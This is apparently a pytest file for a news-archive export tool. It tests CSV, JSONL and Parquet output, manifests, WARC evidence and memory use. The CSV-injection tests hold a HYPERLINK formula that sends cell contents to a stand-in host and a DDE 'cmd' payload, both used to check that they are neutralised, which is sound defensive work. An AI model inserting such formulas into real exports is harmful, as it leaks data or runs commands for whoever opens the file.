"""Exports: the rows, their dictionary and manifest; nothing a spreadsheet would run; constant memory."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from warcio.archiveiterator import ArchiveIterator

from pipelines.feeds.export.columns import COLUMNS, TYPES, dictionary
from pipelines.feeds.export.run import Order, export
from pipelines.feeds.export.writers import WRITERS, safe
from pipelines.news.layout import READER
from pipelines.stores.archive import Archive
from pipelines.stores.evidence import Evidence
from pipelines.stores.library import Range
from pipelines.stores.rows import Rows
from tests.feeds.town import HOSTILE, address, gone, told
from tests.samples import EDIT, NOON, PORTAL, article, capture

OTHER = replace(PORTAL, name="test_qingjiang", title="清江新闻网", home="https://www.qingjiang.example/")
FORMULA = '=HYPERLINK("https://x.example?"&A1,"看")'
NOW = datetime(2026, 11, 21, tzinfo=UTC)
ROOT = Path(__file__).parents[2]


@pytest.fixture
def town(log: Archive) -> Archive:
    told(log)
    told(log, 5, paragraphs=EDIT)
    told(log, 6, number=2, portal=OTHER, headline=FORMULA, source="@SUM(A1)")
    gone(log, 10)
    gone(log, 30)
    return log


def run(log: Archive, folder: Path, what: str, form: str = "jsonl", **within: Any) -> dict[str, Any]:
    """The manifest, its files' sums checked."""
    order = Order(what=what, form=form, within=Range(**within), folder=folder)
    heard: list[int] = []
    tally = export(log, order, NOW, heard.append)
    manifest: dict[str, Any] = json.loads((folder / f"{what}.manifest.json").read_text())
    assert sum(heard) == tally.rows == manifest["rows"] == Rows(log).count(what, Range(**within))
    for file in manifest["files"]:
        assert sha256((folder / file["name"]).read_bytes()).hexdigest() == file["sha256"]
    assert not list(folder.glob(".*"))
    return manifest


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_articles(town: Archive, tmp_path: Path) -> None:
    manifest = run(town, tmp_path, "articles")
    rows = {row["url"]: row for row in lines(tmp_path / "articles.jsonl")}
    one = rows[address(1)]
    assert (one["edits"], one["withdrawals"], one["revisions"], one["state"]) == (1, 1, 2, "withdrawn")
    assert (one["portal_title"], one["province"]) == ("云岭网", "CN-HL")
    assert one["published_at"] == "2026-11-20T02:00:00+00:00"
    assert manifest["rows_by_portal"] == {"test_qingjiang": 1, "test_yunling": 1}
    assert (manifest["reader"], manifest["readers_of_rows"]) == (READER, [READER])
    assert manifest["made_at"] == NOW.isoformat()


def test_revisions_and_changes(town: Archive, tmp_path: Path) -> None:
    run(town, tmp_path, "revisions")
    run(town, tmp_path, "changes")
    first, second, _ = lines(tmp_path / "revisions.jsonl")
    assert first["paragraphs"] == list(article().paragraphs)
    assert second["responsible_editors"] == ["周原"]
    changes = lines(tmp_path / "changes.jsonl")
    assert [row["kind"] for row in changes] == ["new", "edited", "new", "withdrawn"]
    assert changes[1]["parts"][0]["after"] == EDIT[0]
    assert (changes[1]["before_id"], changes[1]["revision_id"]) == (first["id"], second["id"])


@pytest.mark.parametrize("what", COLUMNS)
def test_what_was_asked_stands_in_the_manifest(town: Archive, tmp_path: Path, what: str) -> None:
    since, until = NOON + timedelta(minutes=4), NOON + timedelta(minutes=7)
    manifest = run(town, tmp_path, what, portal="test_yunling", since=since, until=until)
    assert manifest["query"] == {
        "portal": "test_yunling",
        "since": since.isoformat(),
        "until": until.isoformat(),
    }
    assert manifest["rows"] == (0 if what == "articles" else 1)
    assert run(town, tmp_path, what)["query"] == {"portal": None, "since": None, "until": None}


def test_the_dictionary_tells_every_column(town: Archive, tmp_path: Path) -> None:
    for what, columns in COLUMNS.items():
        run(town, tmp_path, what)
        assert list(lines(tmp_path / f"{what}.jsonl")[0]) == [column.name for column in columns]
        words = dictionary(what)
        assert (tmp_path / f"{what}.dictionary.md").read_text() == words
        assert all(f"| {one.name} | {TYPES[one.type]} | {one.means} |" in words for one in columns)
        assert all(one.means for one in columns)


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@x", "\t=1", " =1", "　=1", "\r=1", "＝1", "＋1", "\n=cmd|' /C calc'!A0"]
)
def test_a_formula_becomes_text(text: str) -> None:
    assert safe(text) == f"'{text}"


def test_csv_runs_nothing_and_breaks_nowhere(town: Archive, tmp_path: Path) -> None:
    told(town, 50, number=3, headline=HOSTILE + ',"\n第二行', paragraphs=(FORMULA, 'a"b', "甲\x00乙"))
    for what in COLUMNS:
        manifest = run(town, tmp_path, what, "csv")
        assert "'" in manifest["csv"]
        with (tmp_path / f"{what}.csv").open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.reader(file))
        assert len(rows) == manifest["rows"] + 1
        assert {len(row) for row in rows} == {len(COLUMNS[what])}
        cells = [cell for row in rows[1:] for cell in row]
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "@", "-"))]
        assert not [cell for cell in cells if "\u202e" in cell or "\x00" in cell]
    with (tmp_path / "articles.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    assert f"'{FORMULA}" in {row["headline"] for row in rows}


def test_the_evidence_comes_along(log: Archive, tmp_path: Path) -> None:
    from pipelines.news.portal import Link
    from pipelines.news.revision import revise
    from tests.samples import URL

    evidence = Evidence(tmp_path / "evidence")
    log.found(PORTAL.name, [Link(url=URL)], None, NOON)
    pages = [(b"one",), (b"two", b"two, page 2")]
    for minutes, (first, *more) in enumerate(pages):
        further = tuple(capture(minutes, page) for page in more)
        seen = capture(minutes, first, further=further)
        read = article(headline=f"云岭县图书馆新馆今日开放{minutes}", captured_at=seen.captured_at)
        log.settle(
            seen,
            lambda held, read=read: revise(held, read),
            lambda _, seen=seen: evidence.keep(seen),
            article=read,
        )
    order = Order(what="revisions", form="jsonl", within=Range(), folder=tmp_path, evidence=evidence.folder)
    tally = export(log, order, NOW, lambda _: None)
    assert (tally.evidence, tally.evidence_missing) == (2, 0)
    with (tmp_path / "revisions.warc.gz").open("rb") as stream:
        records = [
            (record.rec_type, record.content_stream().read())
            for record in ArchiveIterator(stream, check_digests="raise")
        ]
    assert records[0][0] == "warcinfo"
    assert records[1:] == [("response", page) for some in pages for page in some]
    (kept,) = evidence.folder.rglob("*.warc.gz")
    assert kept.read_bytes() in (tmp_path / "revisions.warc.gz").read_bytes()
    kept.write_bytes(kept.read_bytes()[:-20])
    assert export(log, order, NOW, lambda _: None).evidence_missing == 1
    kept.unlink()
    assert export(log, order, NOW, lambda _: None).evidence_missing == 2


def test_parquet(town: Archive, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    for what, columns in COLUMNS.items():
        run(town, tmp_path, what, "parquet")
        run(town, tmp_path, what, "jsonl")
        table = pq.read_table(tmp_path / f"{what}.parquet")
        assert table.column_names == [column.name for column in columns]
        assert [row["portal"] for row in table.to_pylist()] == [
            row["portal"] for row in lines(tmp_path / f"{what}.jsonl")
        ]
        assert table.schema.field("portal").metadata[b"means"] == b"the portal's name"
    assert (
        json.loads(pq.read_table(tmp_path / "changes.parquet").to_pylist()[1]["parts"])[0]["after"] == EDIT[0]
    )


def test_parquet_that_is_not_installed_is_said_so(
    town: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pipelines.feeds.export.writers import NoParquet

    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(NoParquet, match=r"gaigao\[parquet\]"):
        WRITERS["parquet"](tmp_path / "x", COLUMNS["articles"])


def test_the_example_of_the_readme(town: Archive, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pytest.importorskip("duckdb")
    run(town, tmp_path / "out", "articles", "csv")
    (example,) = re.findall(r"```python\n(import duckdb.*?)```", (ROOT / "README.md").read_text(), re.DOTALL)
    assert len([line for line in example.splitlines() if line.strip()]) <= 10
    shown: list[Any] = []
    monkeypatch.chdir(tmp_path)
    exec(example, {"print": shown.append})
    assert shown[0].fetchall() == [("云岭网", 1, 1.0), ("清江新闻网", 1, 0.0)]


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="peaks are read from /proc")
def test_memory_does_not_grow_with_the_rows(tmp_path: Path) -> None:
    """A process of its own for each size: five times the rows, nearly the same peak."""
    peaks = [_peak(tmp_path / str(rows), rows) for rows in (400, 2000)]
    assert peaks[1] - peaks[0] < 3 * 1024  # KiB; the further rows alone are 13 MB


SCRIPT = """
import sys
from pathlib import Path
from datetime import datetime, UTC
from pipelines.feeds.export.run import Order, export
from pipelines.stores.archive import Archive
from pipelines.stores.library import Range
folder = Path(sys.argv[1])
log = Archive.open(f"sqlite:///{folder / 'archive.sqlite'}")
export(log, Order(what="revisions", form="csv", within=Range(), folder=folder), datetime.now(UTC), lambda _: None)
# Not ru_maxrss: that begins with what the parent had when it forked.
print(next(line.split()[1] for line in open("/proc/self/status") if line.startswith("VmHWM")))
"""


def _peak(folder: Path, rows: int) -> int:
    import sqlalchemy as sa

    from pipelines.stores.bodies import packed
    from pipelines.stores.schema import articles, revisions

    folder.mkdir()
    log = Archive.open(f"sqlite:///{folder / 'archive.sqlite'}")
    read = article(paragraphs=("云岭县" * 500,) * 2)
    found = {"portal": "p", "found_at": NOON, "since": NOON, "state": "live"}
    common = {
        "captured_at": NOON,
        "fingerprint": "",
        "reader": 1,
        "layout": "",
        "baseline": False,
        **packed(read),
    }

    def fill(connection: sa.Connection) -> None:
        ids = [f"{number:016x}" for number in range(rows)]
        connection.execute(sa.insert(articles), [{"id": id_, "url": id_, **found} for id_ in ids])
        connection.execute(sa.insert(revisions), [{"article_id": id_, "number": 1, **common} for id_ in ids])

    log.write(fill)
    log.close()
    done = subprocess.run(
        [sys.executable, "-c", SCRIPT, str(folder)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    return int(done.stdout)
